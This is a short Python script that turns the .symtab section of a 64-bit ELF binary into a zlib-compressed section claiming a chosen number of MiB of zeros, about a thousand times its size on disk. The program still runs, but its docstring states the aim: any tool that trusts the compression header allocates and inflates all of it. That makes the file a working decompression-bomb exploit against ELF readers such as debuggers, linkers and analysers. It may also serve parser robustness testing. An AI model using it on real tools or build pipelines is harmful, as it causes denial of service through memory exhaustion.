#!/usr/bin/env python3
"""zbomb.py ELF SIZE_MIB - make the .symtab of a 64-bit little-endian ELF
file a compressed section (SHF_COMPRESSED, zlib) that inflates to SIZE_MIB
MiB of zeros: about a thousandth of that on disk. The program still runs
(section headers play no part in loading it); a reader that believes the
compression header allocates and inflates all of it."""
import struct
import sys
import zlib

SHF_COMPRESSED = 0x800
ELFCOMPRESS_ZLIB = 1


def main():
    path, mib = sys.argv[1], int(sys.argv[2])
    with open(path, "rb") as f:
        data = bytearray(f.read())
    assert data[:4] == b"\x7fELF" and data[4] == 2 and data[5] == 1, "64-bit LE ELF only"
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", data, 0x3A)
    def shdr(i):
        return shoff + i * shentsize
    stroff, = struct.unpack_from("<Q", data, shdr(shstrndx) + 0x18)
    target = None
    for i in range(shnum):
        name, = struct.unpack_from("<I", data, shdr(i))
        end = data.index(b"\0", stroff + name)
        if data[stroff + name:end] == b".symtab":
            target = i
    assert target is not None, "no .symtab"

    size = mib << 20
    comp = zlib.compressobj(9)
    zero = bytes(1 << 20)
    blob = bytearray(struct.pack("<IIQQ", ELFCOMPRESS_ZLIB, 0, size, 8))
    for _ in range(mib):
        blob += comp.compress(zero)
    blob += comp.flush()
    while len(data) % 8:
        data.append(0)
    offset = len(data)
    data += blob
    h = shdr(target)
    flags, = struct.unpack_from("<Q", data, h + 0x08)
    struct.pack_into("<Q", data, h + 0x08, flags | SHF_COMPRESSED)
    struct.pack_into("<Q", data, h + 0x18, offset)
    struct.pack_into("<Q", data, h + 0x20, len(blob))
    struct.pack_into("<Q", data, h + 0x30, 8)
    with open(path, "wb") as f:
        f.write(data)
    print(f"{path}: .symtab claims {size} bytes, {len(blob)} on disk")


main()
